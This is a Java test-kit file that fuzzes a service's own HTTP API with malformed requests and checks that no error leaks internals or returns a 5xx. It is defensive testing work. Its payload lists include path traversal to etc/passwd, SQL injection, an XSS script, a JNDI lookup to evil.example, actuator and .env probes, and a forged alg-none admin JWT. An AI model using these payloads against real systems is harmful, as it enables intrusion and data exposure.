package io.relops.testkit;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * A seeded fuzzer of a relops service's HTTP API, as an attacker would try it: every endpoint of the service (its
 * rows in {@code docs/security.md}) and paths it does not have (unknown, encoded, traversal), with every method
 * (incl. PUT, PATCH, DELETE, OPTIONS, HEAD, TRACE and made-up ones), media types (incl. a malformed form body),
 * odd or huge headers, broken or foreign credentials, and malformed, truncated, deep or large bodies. Each answer
 * must be below 500; an error must be {@code application/problem+json} (405 with {@code Allow}) and name nothing
 * of the internals (no exception or class names, stack frames, SQL). The same seed gives the same requests ({@code
 * -Drelops.fuzz.seed=<seed>} replays a run; {@code -Drelops.fuzz.requests=<n>} sets how many).
 */
public final class HttpFuzz {

    /** One request. */
    public record Case(String kind, String method, String path, Map<String, String> headers, byte[] body) {

        /**
         * The size of the request line and headers, as the server counts them against its limit: the case's own
         * headers and the ones the JDK's client adds ({@code Host}, {@code User-Agent}, {@code Content-Length}).
         */
        int headBytes(URI baseUrl) {
            int bytes = method.length() + path.length() + " HTTP/1.1\r\n".length() + "\r\n".length();
            Map<String, String> sent = new LinkedHashMap<>(headers);
            sent.put("Host", baseUrl.getRawAuthority());
            sent.put("User-Agent", "Java-http-client/" + System.getProperty("java.version"));
            sent.put("Content-Length", Integer.toString(body.length));
            for (Map.Entry<String, String> header : sent.entrySet()) {
                bytes += header.getKey().length()
                        + ": ".length()
                        + header.getValue().length()
                        + "\r\n".length();
            }
            return bytes;
        }

        @Override
        public String toString() {
            String text = new String(body, 0, Math.min(body.length, 120), StandardCharsets.UTF_8);
            Map<String, String> shown = new LinkedHashMap<>();
            headers.forEach((k, v) -> shown.put(k, v.length() > 80 ? v.substring(0, 80) + "…(" + v.length() + ")" : v));
            return kind + ": " + method + " " + (path.length() > 200 ? path.substring(0, 200) + "…" : path) + " "
                    + shown + " body(" + body.length + ")=" + text;
        }
    }

    /** What a run saw: the count of each kind and status, and every answer that broke a rule. */
    public record Result(long seed, int requests, Map<String, Integer> statuses, List<String> failures) {
        @Override
        public String toString() {
            StringBuilder text = new StringBuilder(
                    requests + " requests (seed " + seed + ", replay with -Drelops.fuzz.seed=" + seed + ")\n");
            statuses.forEach((kind, n) ->
                    text.append("  ").append(kind).append(": ").append(n).append('\n'));
            return text.toString();
        }
    }

    /** Words an answer may never carry: exception and class names, stack frames, SQL and driver errors. */
    static final Pattern INTERNALS = Pattern.compile(
            "Exception|Throwable|\\bat [a-z]+\\.[\\w.$]+\\(|\\.java:\\d+|\\bjava\\.|\\bjavax?\\.|\\bjakarta\\.|"
                    + "org\\.springframework|org\\.apache|tools\\.jackson|com\\.fasterxml|io\\.relops\\.|"
                    + "\\bSQL|PSQL|hibernate|\"trace\"|\"exception\"|Whitelabel|Apache Tomcat",
            Pattern.CASE_INSENSITIVE);

    static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "PROPFIND", "FOO");

    static final List<String> CONTENT_TYPES = List.of(
            "application/json",
            "application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded; charset=utf-8",
            "multipart/form-data; boundary=xyz",
            "multipart/form-data",
            "text/plain",
            "application/xml",
            "application/octet-stream",
            "application/cloudevents+json",
            "application/json; charset=ebcdic-not-a-charset",
            "application/merge-patch+json",
            "foo/bar/baz",
            "application/",
            ";;;",
            "*/*");

    static final List<String> ACCEPTS = List.of(
            "application/json",
            "application/problem+json",
            "*/*",
            "text/html",
            "image/png",
            "application/xml",
            "text/event-stream",
            "application/json;q=abc",
            "garbage",
            ";;,,",
            "application/json, text/html;q=0.1, */*;q=0");

    static final List<String> PATH_VALUES = List.of(
            "not-a-uuid",
            "1",
            "-1",
            "%00",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%2F..",
            "%252e%252e",
            "%F0%9F%9A%80",
            "%C0%AE%C0%AE",
            "00000000-0000-0000-0000",
            "%27%20OR%20%271%27%3D%271",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D",
            "a;b=c",
            "x".repeat(3000));

    static final List<String> ODD_PATHS = List.of(
            "/api/nope",
            "/api/",
            "/api",
            "/API/RELEASES",
            "/api/../actuator/env",
            "/api/%2e%2e/actuator/env",
            "/api/x/..;/y",
            "//api//releases",
            "/api/releases;jsessionid=abc",
            "/api/releases/%2e%2e/%2e%2e/etc/passwd",
            "/api/%00",
            "/actuator/env",
            "/actuator/heapdump",
            "/actuator/shutdown",
            "/actuator/loggers/root",
            "/error",
            "/console/../api/releases",
            "/v3/api-docs/%2e%2e",
            "/swagger-ui/../../etc/passwd",
            "/.env",
            "/WEB-INF/web.xml",
            "/%7e",
            "/a" + "/b".repeat(1500));

    static final List<String> QUERIES = List.of(
            "?page=-1&size=99999999999",
            "?limit=abc",
            "?since=yesterday&until=%00",
            "?application=%27%20OR%201%3D1--",
            "?a=%E0%A4&b",
            "?" + "x=1&".repeat(2000),
            "?sort=;drop%20table");

    private static final List<String> FORM_BODIES =
            List.of("abc=%%%", "a=%zz&b=%", "%", "=&=&=", "a=" + "%41".repeat(20_000), "a[b][c][d]=1", "a=1&a=2&a=%");

    private final URI baseUrl;
    private final List<AuthorizationMatrixSpec.Endpoint> endpoints;
    private final List<String> tokens;
    /** Tomcat's limit on a request's line and headers (server.max-http-request-header-size: 8 KB, kept). */
    static final int MAX_HEAD_BYTES = 8 * 1024;

    private final long seed;
    private final int requests;

    /**
     * @param baseUrl the service, e.g. {@code http://127.0.0.1:8081}
     * @param endpoints its endpoints ({@link AuthorizationMatrixSpec#endpoints})
     * @param tokens valid bearer tokens to send besides broken ones (the testkit's roles)
     */
    public HttpFuzz(URI baseUrl, List<AuthorizationMatrixSpec.Endpoint> endpoints, List<String> tokens) {
        this(
                baseUrl,
                endpoints,
                tokens,
                Long.getLong("relops.fuzz.seed", System.nanoTime()),
                Integer.getInteger("relops.fuzz.requests", 1_500));
    }

    public HttpFuzz(
            URI baseUrl,
            List<AuthorizationMatrixSpec.Endpoint> endpoints,
            List<String> tokens,
            long seed,
            int requests) {
        this.baseUrl = baseUrl;
        this.endpoints = List.copyOf(endpoints);
        this.tokens = List.copyOf(tokens);
        this.seed = seed;
        this.requests = requests;
    }

    /** The testkit's tokens of every role. */
    public static List<String> testTokens() {
        return TestCredentials.ROLES.stream().map(TestCredentials::token).toList();
    }

    /** The requests of this seed. */
    public List<Case> cases() {
        Random random = new Random(seed);
        List<Case> cases = new ArrayList<>(requests);
        for (int i = 0; i < requests; i++) {
            cases.add(next(random));
        }
        return cases;
    }

    /** Sends every case (4 at a time) and checks each answer. */
    public Result run() throws InterruptedException {
        List<Case> cases = cases();
        HttpClient http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(5))
                .build();
        Map<String, AtomicInteger> statuses = new ConcurrentHashMap<>();
        List<String> failures = new CopyOnWriteArrayList<>();
        ExecutorService clients = Executors.newFixedThreadPool(4);
        for (Case request : cases) {
            clients.execute(() -> send(http, request, statuses, failures));
        }
        clients.shutdown();
        if (!clients.awaitTermination(10, TimeUnit.MINUTES)) {
            clients.shutdownNow();
            failures.add("the fuzz did not finish in 10 minutes");
        }
        Map<String, Integer> counted = new TreeMap<>();
        statuses.forEach((k, v) -> counted.put(k, v.get()));
        return new Result(seed, cases.size(), counted, List.copyOf(failures));
    }

    private void send(HttpClient http, Case request, Map<String, AtomicInteger> statuses, List<String> failures) {
        try {
            HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(baseUrl + request.path()))
                    .timeout(Duration.ofSeconds(30))
                    .method(
                            request.method(),
                            request.body().length == 0
                                    ? HttpRequest.BodyPublishers.noBody()
                                    : HttpRequest.BodyPublishers.ofByteArray(request.body()));
            request.headers().forEach(builder::header);
            HttpResponse<String> answer = http.send(builder.build(), HttpResponse.BodyHandlers.ofString());
            int status = answer.statusCode();
            statuses.computeIfAbsent(request.kind().replaceAll("/.*", "") + " " + status, k -> new AtomicInteger())
                    .incrementAndGet();
            String problem = check(request, answer);
            if (problem != null) {
                failures.add(problem + ": " + status + " "
                        + answer.headers().firstValue("Content-Type").orElse("") + " " + abbreviate(answer.body())
                        + " <- " + request);
            }
        } catch (java.io.IOException e) {
            if (request.headBytes(baseUrl) > MAX_HEAD_BYTES) {
                // Tomcat answers a head over its limit and closes at once; when the client is still sending the
                // rest of that head, the close resets the connection and the answer can be lost with it. Nothing
                // was answered, so nothing was leaked: counted, not a failure.
                statuses.computeIfAbsent(
                                request.kind().replaceAll("/.*", "") + " closed (head over the limit)",
                                k -> new AtomicInteger())
                        .incrementAndGet();
                return;
            }
            statuses.computeIfAbsent(request.kind().replaceAll("/.*", "") + " no answer", k -> new AtomicInteger())
                    .incrementAndGet();
            failures.add("no answer (" + e + ") <- " + request);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        } catch (RuntimeException e) {
            failures.add("the request could not be sent (" + e + ") <- " + request);
        }
    }

    /** What is wrong with {@code answer}, or null. */
    static String check(Case request, HttpResponse<String> answer) {
        int status = answer.statusCode();
        if (status >= 500) {
            return "5xx";
        }
        if (status >= 400) {
            // a successful answer is the API's data (an audit record may quote anything): errors are checked
            if (INTERNALS.matcher(answer.body()).find()) {
                return "internals in the answer";
            }
            String type = answer.headers().firstValue("Content-Type").orElse("");
            boolean head = request.method().equals("HEAD");
            if (!(type.startsWith("application/problem+json") || (head && type.isEmpty()))) {
                return "an error that is not application/problem+json";
            }
            if (status == 405 && answer.headers().firstValue("Allow").isEmpty()) {
                return "405 without Allow";
            }
        }
        return null;
    }

    private static String abbreviate(String body) {
        return body.length() > 300 ? body.substring(0, 300) + "…" : body;
    }

    // ---- generation

    private Case next(Random random) {
        String method;
        String path;
        String kind;
        int shape = random.nextInt(10);
        AuthorizationMatrixSpec.Endpoint endpoint =
                endpoints.isEmpty() ? null : endpoints.get(random.nextInt(endpoints.size()));
        if (endpoint == null || shape == 0) {
            kind = "odd-path";
            path = pick(random, ODD_PATHS);
            method = pick(random, METHODS);
        } else {
            kind = "endpoint";
            path = endpoint.path().replace("/**", "/x");
            if (path.contains("{") && random.nextInt(3) == 0) {
                path = path.replaceAll("\\{[^}]+}", Matcher.quoteReplacement(pick(random, PATH_VALUES)));
                kind = "path-variable";
            } else {
                path = path.replaceAll(
                        "\\{[^}]+}",
                        random.nextBoolean()
                                ? AuthorizationMatrixSpec.SAMPLE_ID
                                : UUID.randomUUID().toString());
            }
            method = random.nextInt(3) == 0 ? endpoint.method() : pick(random, METHODS);
            if (method.equals("ANY")) {
                method = pick(random, METHODS);
            }
        }
        if (random.nextInt(6) == 0) {
            path = path + pick(random, QUERIES);
        }
        Map<String, String> headers = new LinkedHashMap<>();
        authorization(random, headers);
        if (random.nextInt(3) > 0) {
            headers.put("Accept", pick(random, ACCEPTS));
        }
        oddHeaders(random, headers);
        byte[] body = new byte[0];
        if (!method.equals("TRACE") && random.nextInt(5) > 0) {
            String contentType = pick(random, CONTENT_TYPES);
            headers.put("Content-Type", contentType);
            body = body(random, contentType);
        }
        if (body.length > 8192 && (headers.containsKey("X-Pad") || headers.containsKey("X-Many-0"))) {
            // Tomcat answers headers too large at once and closes the connection while a large body is still
            // being sent: the client would see a reset, not the answer
            body = "{}".getBytes(StandardCharsets.UTF_8);
        }
        return new Case(kind + "/" + method.toLowerCase(Locale.ROOT), method, path, headers, body);
    }

    private void authorization(Random random, Map<String, String> headers) {
        switch (random.nextInt(12)) {
            case 0, 1, 2 -> {} // none
            case 3 -> headers.put("Authorization", "Bearer");
            case 4 -> headers.put("Authorization", "Bearer " + TestCredentials.badToken());
            case 5 -> headers.put("Authorization", "Basic dXNlcjpwYXNzd29yZA==");
            case 6 ->
                headers.put(
                        "Authorization",
                        pick(
                                random,
                                List.of(
                                        // alg none, an admin claim, no signature
                                        "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJtYWxsb3J5Iiwicm9sZXMiOlsiYWRtaW4iXX0.",
                                        "Bearer a.b.c",
                                        "Bearer ....",
                                        "Bearer %00",
                                        "Bearer " + "A".repeat(6000),
                                        "Bearer a b c",
                                        "bearer " + tokens.get(0),
                                        "Bearer " + tokens.get(0) + "x",
                                        "Bearer  " + tokens.get(0))));
            default -> headers.put("Authorization", "Bearer " + pick(random, tokens));
        }
    }

    private static void oddHeaders(Random random, Map<String, String> headers) {
        switch (random.nextInt(14)) {
            case 0 -> headers.put("X-Pad", "x".repeat(10_000 + random.nextInt(20_000)));
            case 1 -> {
                for (int i = 0; i < 120; i++) {
                    headers.put("X-Many-" + i, "v".repeat(60));
                }
            }
            case 2 -> headers.put("X-Relops-Actor", "mallory");
            case 3 -> headers.put("X-HTTP-Method-Override", "DELETE");
            case 4 -> headers.put("Content-Encoding", "gzip");
            case 5 -> headers.put("Range", "bytes=0-1,5-3");
            case 6 -> headers.put("Idempotency-Key", pick(random, List.of("", " ", "%00", "k".repeat(2000))));
            case 7 -> headers.put("If-None-Match", "*");
            case 8 -> headers.put("Origin", "https://evil.example");
            case 9 -> headers.put("X-Forwarded-For", "127.0.0.1, ::1, 999.999.999.999");
            case 10 -> headers.put("Accept-Language", "xx-XX;q=abc");
            case 11 -> headers.put("traceparent", "00-zzzz-not-a-trace-01");
            default -> {}
        }
    }

    private static byte[] body(Random random, String contentType) {
        if (contentType.startsWith("application/x-www-form-urlencoded") || random.nextInt(8) == 0) {
            return pick(random, FORM_BODIES).getBytes(StandardCharsets.UTF_8);
        }
        String json = pick(
                random,
                List.of(
                        "{}",
                        "{\"application\":\"shop\",\"version\":\"1.0.0\",\"environment\":\"staging\"}",
                        "{\"reason\":[1],\"emergency\":{}}",
                        "[1,2,3]",
                        "\"text\"",
                        "null",
                        "{\"createdBy\":\"mallory\",\"by\":\"mallory\",\"requestedBy\":\"mallory\"}",
                        "{\"matchers\":[{\"name\":\"alertname\",\"value\":\"(a+)+$\",\"isRegex\":true}]}",
                        "{\"endsAt\":\"9999-12-31T23:59:59Z\",\"startsAt\":\"yesterday\"}"));
        return switch (random.nextInt(7)) {
            case 0 -> json.substring(0, json.length() / 2).getBytes(StandardCharsets.UTF_8);
            case 1 -> {
                byte[] garbage = new byte[1 + random.nextInt(512)];
                random.nextBytes(garbage);
                yield garbage;
            }
            case 2 -> ("[".repeat(5_000) + "]".repeat(5_000)).getBytes(StandardCharsets.UTF_8);
            case 3 -> ("{\"a\":\"" + "x".repeat(1_200_000) + "\"}").getBytes(StandardCharsets.UTF_8);
            case 4 -> "{\"a\":\"\u0000\\ud800\",\"b\":1e999999}".getBytes(StandardCharsets.UTF_8);
            default -> json.getBytes(StandardCharsets.UTF_8);
        };
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }
}
